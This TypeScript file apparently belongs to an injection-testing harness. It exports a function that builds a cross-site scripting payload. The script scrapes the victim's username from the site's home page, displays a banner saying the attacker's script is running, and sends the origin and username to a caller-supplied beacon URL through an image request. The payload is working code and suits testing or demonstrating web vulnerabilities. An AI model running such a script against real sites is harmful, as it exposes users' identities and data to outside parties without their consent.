/**
 * The script that every injection tries to run on the target. It reads what the victim may read, shows itself to
 * the visitor, and reports home. `globalThis.mischief` is what the tests look for.
 */
export function payload(beacon: string): string {
  return `(async () => {
  globalThis.mischief = true;
  const home = await (await fetch("/")).text();
  const nav = new DOMParser().parseFromString(home, "text/html").querySelector(".nav a[href*='/user/']");
  const victim = nav === null ? "nobody" : nav.textContent.trim();
  const note = document.createElementNS("http://www.w3.org/1999/xhtml", "p"); // also in an SVG
  note.id = "mischief";
  note.textContent = "The attacker's script is running on " + location.origin + " as " + victim + ".";
  note.style.cssText = "position:fixed;inset:auto 0 0 0;margin:0;padding:1rem;background:#111;color:#3dff8f;font:700 1.1rem monospace;text-align:center;z-index:9999";
  (document.body ?? document.documentElement).append(note);
  new Image().src = ${JSON.stringify(beacon)} + encodeURIComponent("A script ran on " + location.origin + " as " + victim);
})();
`;
}
